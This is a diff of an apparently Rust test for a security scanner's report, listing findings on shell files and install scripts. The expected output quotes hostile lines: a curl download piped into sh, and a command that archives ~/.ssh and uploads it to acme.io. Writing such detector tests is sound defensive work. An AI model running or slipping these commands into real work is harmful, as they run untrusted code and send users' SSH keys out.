@@ -128,7 +128,6 @@ fn they_are_said_of_shell_files_and_of_strings_that_are_run() {
         medium run.sh:2-3: This code runs what an address answers
             | curl -s https://acme.io/x \\\n  | sh
         medium run.sh:5: This code runs what an address answers
-            | sh y
         low run.sh:6: This code names a file or store where other programs keep credentials: 1 place in 1 file
             | tar cz ~/.ssh | curl -T - https://acme.io
         low setup.py:1: setup.py starts programs when the package is installed
